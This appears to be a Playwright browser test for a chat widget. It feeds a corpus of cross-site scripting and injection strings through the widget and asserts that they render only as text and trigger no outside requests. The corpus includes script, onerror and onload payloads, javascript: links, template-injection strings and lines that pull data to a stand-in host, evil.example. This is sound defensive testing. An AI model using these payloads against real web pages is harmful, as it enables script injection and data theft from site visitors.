/** S24 and S25: whatever a model or a visitor says is text. */

import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { SubscribeEvent } from '../../shared/evi/messages.ts';
import { tag, watchHost } from '../browser/support/host.ts';
import { expect, root, test } from '../browser/support/visit.ts';
import { beginStream, endStream, sendText, startChatServer } from '../unit/support/chat-server.ts';

const CORPUS = [
  '<img src=x onerror="window.owned=1"><script>window.owned=1</script>',
  '<svg onload="window.owned=1"><a href="javascript:owned=1">go</a></svg><iframe srcdoc="<b>x</b>"></iframe>',
  '![pixel](https://evil.example/p.png?q=secret) and [link](javascript:window.owned=1)',
  '[one]: https://evil.example/a "x" <https://evil.example/b> https://evil.example/c www.evil.example',
  '&lt;img src=x onerror=owned=1&gt; &#60;script&#62; \\u003cscript\\u003e %3Cscript%3E',
  '<<b>script>window.owned=1//<</b>/script> <math><mtext><style><img src=x onerror=owned=1></style>',
  '"><link rel=stylesheet href=https://evil.example/x.css><style>@import "//evil.example"</style>',
  '{{constructor.constructor("window.owned=1")()}} $'.concat('{owned=1} <%= owned %>'),
  'right \u202Eevil\u202C left, zero\u200Bwidth\u2060joined \uFEFF done',
];

/** As a reader sees it: white space and marks without width are the renderer's business. */
const seen = (text: string): string => text.replace(/[\s\u200B\u2060\uFEFF\u202A-\u202E]+/g, '');

test('S24, S25: a corpus of attacks is shown as text and causes no request', async ({ page, stage }) => {
  test.setTimeout(120_000);
  let answer = '';
  const model = await startChatServer((response) => {
    beginStream(response);
    sendText(response, answer);
    endStream(response);
  });
  const file = pathToFileURL(join(root, 'dist/server/demo.js')).href;
  const { startDemo } = (await import(file)) as typeof import('../../demo-site/serve.ts');
  const variables = { EVI_ALLOWED_SITES: stage.origin, EVI_LLM_URL: model.url, EVI_LLM_MODEL: 'echo' };
  const demo = await startDemo({ root, ports: { host: 0, widget: 0, hostile: 0 }, variables });
  try {
    const received: SubscribeEvent[] = [];
    page.on('websocket', (socket) =>
      socket.on('framereceived', ({ payload }) =>
        received.push(JSON.parse(String(payload)) as SubscribeEvent),
      ),
    );
    const host = watchHost(page, demo);
    await host.go(stage.page(`<p>Words</p>${tag(demo.widget, `data-title='<img src=x onerror=owned=1>'`)}`));
    await host.openPanel();
    const requests: string[] = [];
    page.on('request', (request) => requests.push(request.url()));
    const log = host.widget.getByRole('log');

    for (const attack of CORPUS) {
      const from = received.length;
      answer = attack;
      await host.ask(attack);
      // After the visitor's own words: what is still on its way belongs to the attack before.
      const first = (): SubscribeEvent | undefined => {
        const since = received.slice(from);
        const taken = since.findIndex(({ type }) => type === 'user_message');
        return since.slice(taken + 1).find(({ type }) => taken >= 0 && type === 'assistant_message');
      };
      await expect.poll(first, { message: attack, timeout: 20_000 }).toBeDefined();
      // It is in sight as soon as its voice begins.
      const message = first();
      const said = message?.type === 'assistant_message' ? message.message.content : '';
      expect(seen(attack)).toContain(seen(said));
      const article = log.getByRole('article').last();
      await expect.poll(async () => seen((await article.textContent()) ?? '')).toContain(seen(said));
      await expect.poll(async () => seen((await log.textContent()) ?? '')).toContain(seen(attack));
    }

    const frame = page.frames().find((one) => one.url().startsWith(demo.widget));
    const elements = await log.evaluate((element) => [
      ...new Set(Array.from(element.querySelectorAll('*'), ({ localName }) => localName)),
    ]);
    expect(elements.filter((name) => !['div', 'article', 'h2', 'p', 'span'].includes(name))).toEqual([]);
    const active = await log.evaluate((element) =>
      Array.from(element.querySelectorAll('*')).flatMap((one) =>
        one.getAttributeNames().filter((name) => /^on|href|src|style|data-/.test(name)),
      ),
    );
    expect(active).toEqual([]);
    expect(await frame?.evaluate(() => 'owned' in window)).toBe(false);
    expect(await page.evaluate(() => 'owned' in window)).toBe(false);
    await expect(host.widget.getByRole('heading', { level: 1 })).toHaveText('<img src=x onerror=owned=1>');

    // The call itself needs a token, the worklet of the voice and the panel's later parts, from the widget's own
    // origin; nothing else.
    const own = new RegExp(
      `^${demo.widget}/(token|widget/assets/(sound\\.thread|later|sheets|acting|names)-[\\w-]+\\.(js|css))$`,
    );
    expect(requests.filter((url) => !own.test(url))).toEqual([]);
    expect(host.complaints).toEqual([]);
  } finally {
    await demo.close();
    await model.close();
  }
});
